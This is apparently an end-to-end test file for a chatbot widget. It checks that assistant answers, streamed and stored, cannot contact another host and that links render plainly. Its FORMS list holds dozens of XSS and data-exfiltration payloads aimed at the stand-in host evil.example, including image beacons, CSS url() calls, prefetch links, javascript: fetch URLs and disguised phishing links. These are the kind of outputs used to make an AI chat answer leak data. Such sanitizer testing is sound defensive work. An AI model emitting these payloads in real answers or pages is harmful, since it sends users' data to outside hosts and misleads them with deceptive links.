# ruff: noqa: E501  (a form is one string)
"""An answer cannot tell anybody else anything: what it holds asks no other host, and links are plain.

The provider's stub writes it, streamed in small pieces; then it is stored as if nothing had looked
at it, and read again by the visitor and by the owner.
"""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.xss.oracle import Oracle, watched
from tests.proof.counting import counted

E, Q = "evil.example", "?q=secret"
FORMS = [
    f"![x](https://{E}/p.png{Q})", f"![x](//{E}/p.png{Q})", f"![x](http://{E}:8080/{Q})",
    f"![x][a]\n\n[a]: https://{E}/r.png{Q}", f"![b]\n\n[b]: https://{E}/s.png{Q}",
    f"![c][]\n\n[c]: <https://{E}/t.png{Q}>", f'![x](https://{E}/u.png "{Q}")',
    f"[![x](https://{E}/v.png{Q})](https://{E}/w{Q})", f"![x](<https://{E}/a b.png{Q}>)",
    f"![x](https://{E}/é.png{Q})", f"![x](https://user:pass@{E}/{Q})", f"![x](\\\\{E}\\p.png)",
    f"![x](https://www.google.com/url{Q}&url=//{E})", f"![x](data:image/svg+xml,<image href=//{E}/>)",
    f"[link](https://{E}/l{Q})", f"<https://{E}/auto{Q}>", f"https://{E}/bare{Q}", f"www.{E}/{Q}",
    f"[ref][d]\n\n[d]: https://{E}/d{Q}", f"[e]\n\n[e]: https://{E}/e{Q} 'title'",
    f"[mail](mailto:x@{E}{Q})", f"<x@{E}>", f"[x](javascript:fetch('//{E}'))",
    f"[x](data:text/html,<script>fetch('//{E}')</script>)", f"[x](ftp://{E}/{Q})",
    f"[bank.example](https://{E}/phish{Q})", f"[https://bank.example](https://{E}/)",
    f"[bank.example](https://bank.example@{E}/)", f"[\u202eelpmaxe.knab](https://{E})",
    f'<img src="https://{E}/i.png{Q}">', f"<img src=//{E}/j.png>", f"<img srcset='//{E}/k.png 2x'>",
    f"<picture><source srcset=//{E}/m.webp><img></picture>", f"<IMG\nSRC\n=\n//{E}/n.png>",
    f"<image src=//{E}/o.png>", f"<input type=image src=//{E}/p.png>", f"<video src=//{E}/q.mp4>",
    f"<video poster=//{E}/r.png></video>", f"<audio src=//{E}/s.mp3 autoplay>",
    f"<source src=//{E}/t>", f"<track src=//{E}/u.vtt>", f"<embed src=//{E}/v>",
    f"<object data=//{E}/w></object>", f"<iframe src=//{E}/x></iframe>",
    f"<iframe srcdoc='<img src=//{E}/y>'></iframe>", f"<frame src=//{E}/z>",
    f"<link rel=stylesheet href=//{E}/a.css>", f"<link rel=prefetch href=//{E}/b>",
    f"<link rel=preload as=image href=//{E}/c>", f"<link rel=preconnect href=//{E}>",
    f"<link rel=dns-prefetch href=//{E}>", f"<link rel=icon href=//{E}/d.ico>",
    f"<link rel=modulepreload href=//{E}/e.js>", f"<link rel=prerender href=//{E}/f>",
    f"<script src=//{E}/g.js></script>", f"<style>@import '//{E}/h.css'</style>",
    f"<style>*{{background:url(//{E}/i)}}</style>", f"<p style='background:url(//{E}/j)'>x</p>",
    f"<div style=\"list-style:url('//{E}/k')\">x</div>", f"<table background=//{E}/l><td>x</table>",
    f"<body background=//{E}/m>", f"<svg><image href=//{E}/n.png /></svg>",
    f"<svg><use href=//{E}/o.svg#x /></svg>", f"<svg><feImage href=//{E}/p /></svg>",
    f"<svg><style>*{{fill:url(//{E}/q)}}</style></svg>", f"<math href=//{E}/r>x</math>",
    f"<meta http-equiv=refresh content='0;url=//{E}/s'>", f"<base href=//{E}/>",
    f"<form action=//{E}/t><button autofocus>x</button></form>", f"<a href=//{E} ping=//{E}/u>x</a>",
    f"<meta property=og:image content=https://{E}/v.png>", f"<blockquote cite=//{E}/w>x</blockquote>",
    f"<script type=speculationrules>{{\"prerender\":[{{\"urls\":[\"//{E}\"]}}]}}</script>",
    f"```mermaid\ngraph LR; A-->B; click A href \"https://{E}/x\"\n```", f"$\\href{{//{E}/y}}{{x}}$",
    f"| a |\n|---|\n| ![x](//{E}/z.png) |", f"- ![x](https://{E}/1.png)", f"> ![x](https://{E}/2.png)",
    f"# ![x](https://{E}/3.png)", f"[^1]\n\n[^1]: ![x](https://{E}/4.png)",
]  # fmt: skip
PIECE = 7
AT_ONCE = 20
# Of each link in an answer: where it leads, what stands around it, and its relations.
LINKS = """
(log) => [...log.querySelectorAll('[data-role="assistant"] a')].map((link) => ({
  href: link.href, rel: link.rel, text: link.textContent + (link.nextSibling?.textContent ?? ""),
}))
"""


def answers() -> list[str]:
    groups = [FORMS[at : at + AT_ONCE] for at in range(0, len(FORMS), AT_ONCE)]
    return ["\n\n".join(["On weekdays the café opens at 7:30 [1].", *group]) for group in groups]


@pytest.fixture
def open_minded(database, demo_bot):
    """The demo's bot keeps what no source supports."""
    bots, which = database.chatbase_db.chatbots, {"id": demo_bot}
    before = bots.find_one(which)
    bots.update_one(which, {"$set": {"strict": False}})
    yield demo_bot
    bots.replace_one(which, before)


def test_no_answer_asks_another_host(
    browser, product_with_provider, provider, database, open_minded
):
    base, bot, data = product_with_provider, open_minded, database.chatbase_db
    assert len(FORMS) >= 60
    oracle, links = Oracle(base), []
    with watched(browser, oracle) as page:
        page.goto(f"{base}/embed/{bot}/")
        for number, text in enumerate(answers(), 1):
            pieces = [text[at : at + PIECE] for at in range(0, len(text), PIECE)]
            provider.answer = lambda request, pieces=pieces: pieces
            ask(page, number)
            links += links_in(oracle, page)
        streamed = len(provider.requests)
        stored = store(data, bot)
        page.reload()
        links += links_in(oracle, page, shown=len(stored))
    sent_away = [link["href"] for link in links]
    with watched(browser, oracle) as page:
        page.goto(f"{base}/accounts/login/")
        page.get_by_role("button", name="Continue as the demo user").click()
        page.wait_for_url("**/dashboard/")
        for path in ("conversations/", f"conversations/{stored[0]['conversation_id']}/"):
            page.goto(f"{base}/bots/{bot}/{path}")
            oracle.look(page)
        links += page.locator("main").evaluate(LINKS)
    counted("D2", forms=len(FORMS), links=len(links), **oracle.figures())
    assert streamed >= len(answers()) and any("evil.example" in href for href in sent_away)
    oracle.assert_nothing()
    assert [link for link in links if not is_plain(link)] == []


def ask(page: Page, number: int) -> None:
    page.locator("[data-chat-input]").fill("When does the café open on weekdays?")
    page.locator("[data-chat-input]").press("Enter")
    done = page.locator('[data-role="assistant"][data-state="done"]')
    expect(done).to_have_count(number, timeout=30_000)


def links_in(oracle: Oracle, page: Page, shown: int = 1) -> list[dict]:
    answered = page.locator('[data-role="assistant"][data-state="done"]')
    expect(answered.nth(shown - 1)).to_be_visible()
    oracle.look(page)
    return page.locator("[data-chat-log]").evaluate(LINKS)


def store(data, bot: str) -> list[dict]:
    """Puts the whole of each answer where the checked one is."""
    [talk] = data.conversations.find({"chatbot_id": bot}).sort("created_at", -1).limit(1)
    mine = {"conversation_id": talk["id"], "role": "assistant"}
    messages = list(data.messages.find(mine).sort("timestamp", 1))
    for message, text in zip(messages, answers(), strict=True):
        data.messages.update_one({"id": message["id"]}, {"$set": {"content": text, "claims": []}})
    return messages


def is_plain(link: dict) -> bool:
    """It tells where it leads, opens apart, and is an address of the web or of mail."""
    if not re.match("https?://|mailto:", link["href"]):
        return False
    host = re.match(r"(?:https?://(?:[^@/]*@)?|mailto:(?:[^@]*@)?)([^/:?#]+)", link["href"])[1]
    says_host = host.removeprefix("www.") in link["text"].lower()
    return says_host and (
        link["href"].startswith("mailto:") or {"noopener", "nofollow"} <= set(link["rel"].split())
    )
